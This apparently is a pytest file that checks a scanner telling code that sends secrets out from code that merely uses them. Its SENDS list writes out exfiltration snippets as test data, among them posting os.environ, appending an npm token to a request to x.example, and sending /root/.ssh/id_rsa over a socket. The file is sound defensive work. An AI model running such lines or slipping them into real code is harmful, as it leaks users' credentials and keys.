"""Code that carries secrets away is told from code that uses them."""

from __future__ import annotations

import pytest
from hermes_nb.safety.scanning.leaks import leaks

SENDS = [
    "requests.post(url, json=dict(os.environ))",
    'key = os.environ["aws_secret_access_key"]\nrequests.post(url, data=key)',
    'a = os.getenv("db_password")\nb = base64.b64encode(a)\nhttpx.post(\n url,\n content=b,\n)',
    "const t = process.env.npm_token\nfetch('https://x.example/?' + t)",
    'found = {\n "a": os.environ["a_token"],\n "b": os.environ["b_secret"],\n}',
    'd = open("/root/.ssh/id_rsa").read()\nsock.sendall(open("/root/.ssh/id_rsa").read())',
]
USES = [
    'key = os.environ["api_key"]\nrequests.get(url, headers={"authorization": f"bearer {key}"})',
    'client = openai(api_key=os.environ["openai_api_key"])',
    'key = os.getenv("api_key")\nrequests.get(url, params={"key": key, "q": q})',
    'os.environ["home"] = "x"\nrequests.get(url)',
    "requests.post(url, json=payload)",
]


@pytest.mark.parametrize("code", SENDS)
def test_a_secret_on_its_way_out_is_seen(code):
    assert list(leaks(code))


@pytest.mark.parametrize("code", USES)
def test_using_an_interface_is_no_leak(code):
    assert not list(leaks(code))
